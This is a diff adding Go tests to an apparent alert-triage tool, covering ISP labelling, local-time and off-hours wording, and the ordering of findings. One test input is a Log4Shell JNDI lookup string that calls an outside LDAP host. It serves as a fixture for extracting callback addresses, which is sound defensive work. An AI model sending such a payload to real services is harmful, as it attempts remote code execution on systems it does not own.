@@ -313,3 +313,38 @@ func TestLinkedLine(t *testing.T) {
 		t.Error("0 linked alerts should write no line")
 	}
 }
+
+func TestStoryContext(t *testing.T) {
+	if got, want := withNetwork("r from 73.162.45.18 (US): attached", "73.162.45.18", "Comcast, US, an ISP"), "r from 73.162.45.18 (Comcast, US, an ISP): attached"; got != want {
+		t.Errorf("withNetwork: got %q, want %q", got, want)
+	}
+	at := time.Date(2026, 3, 10, 21, 36, 0, 0, time.UTC)
+	a := triage.Action{Time: at, SourceIP: "73.162.45.18", Details: map[string]string{"timezone": "America/Los_Angeles"}}
+	if got, want := localTime(a), "14:36 local time at the address, a Tuesday"; got != want {
+		t.Errorf("localTime: got %q, want %q", got, want)
+	}
+	a.Details["timezone"] = "Europe/Zurich"
+	a.Time = time.Date(2026, 4, 2, 2, 11, 0, 0, time.UTC)
+	if got := localTime(a); !strings.HasSuffix(got, ", off-hours") {
+		t.Errorf("04:11 in Zurich is not called off-hours: %q", got)
+	}
+	a.SourceIP = "10.1.2.3"
+	if got := localTime(a); got != "" {
+		t.Errorf("a private address's time zone is someone else's: %q", got)
+	}
+	if got, want := callback("/?x=${jndi:ldap://194.26.192.71:1389/Basic/Command}"), "194.26.192.71:1389"; got != want {
+		t.Errorf("callback: got %q, want %q", got, want)
+	}
+}
+
+func TestWhyLeadsWithTriedDefenceEvasion(t *testing.T) {
+	v := Verdict{Reasons: []triage.Finding{
+		{Kind: "admin_grant", LogOdds: 1.5, Title: "grant"},
+		{Kind: "defense_evasion", LogOdds: 1.25, Title: "DeleteTrail; the attempt failed (AccessDenied)"},
+		{Kind: "login_no_mfa", LogOdds: 0.5, Title: "no MFA"},
+	}}
+	why := whyFindings(v)
+	if len(why) != 3 || why[0].Kind != "defense_evasion" || why[2].Kind != "login_no_mfa" {
+		t.Errorf("why order: %+v", why)
+	}
+}
